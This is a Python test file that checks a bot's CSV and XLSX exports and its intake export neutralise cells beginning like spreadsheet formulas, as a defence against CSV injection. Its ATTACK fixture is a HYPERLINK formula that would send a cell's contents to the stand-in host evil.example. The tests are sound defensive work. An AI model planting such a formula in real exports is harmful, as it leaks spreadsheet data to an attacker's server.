"""Exports never carry a formula: free text that starts like one stays text (OWASP CSV injection)."""
from __future__ import annotations

import csv
import datetime
import io
import subprocess
import sys
from pathlib import Path

from openpyxl import load_workbook

from bot.db import Database, migrate
from bot.intake.store import IntakeStore
from bot.stats.export import aggregates_csv, aggregates_xlsx
from bot.stats.report import ReportFilters
from bot.stats.tables import Table

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Details")'


def table() -> Table:
    return Table("municipality", "Wohnort", ["Wohnort", "Anzahl"],
                 [[ATTACK, 7], ["+49 176", 8], ["@SUM(1)", 9], ["-1+1", 10], ["Moers", 11]])


def test_csv_cells_that_start_like_a_formula_are_text() -> None:
    rows = list(csv.reader(io.StringIO(aggregates_csv([table()]))))
    labels = [row[1] for row in rows[1:]]
    assert labels == ["'" + ATTACK, "'+49 176", "'@SUM(1)", "'-1+1", "Moers"]


def test_xlsx_cells_that_start_like_a_formula_are_text_as_typed() -> None:
    filters = ReportFilters(date_from=datetime.date(2026, 1, 1), date_to=datetime.date(2026, 12, 31))
    sheet = load_workbook(io.BytesIO(aggregates_xlsx([table()], filters)))["municipality"]
    cells = [sheet.cell(row=row, column=1) for row in range(4, 9)]
    assert [cell.value for cell in cells] == [ATTACK, "+49 176", "@SUM(1)", "-1+1", "Moers"]
    assert {cell.data_type for cell in cells} == {"s"}


def test_the_intake_export_neutralises_free_text(tmp_path: Path, database_url: str) -> None:
    url = database_url
    migrate(url)
    IntakeStore(Database(url)).save_answers("telegram:1", "telegram", {"first_name": "Sara", "work_experience": ATTACK},
                                           {"processing": "yes", "statistics": "yes", "sharing": "no"})
    environment = {"DATABASE_URL": url, "LOTSE_VAR_DIR": str(tmp_path), "PATH": "/usr/bin:/bin"}
    output = subprocess.run([sys.executable, "-m", "bot.cli", "intakes", "export", "--format", "csv"], env=environment,
                            capture_output=True, text=True, check=True).stdout
    (row,) = list(csv.DictReader(io.StringIO(output)))
    assert (row["work_experience"], row["first_name"]) == ("'" + ATTACK, "Sara")
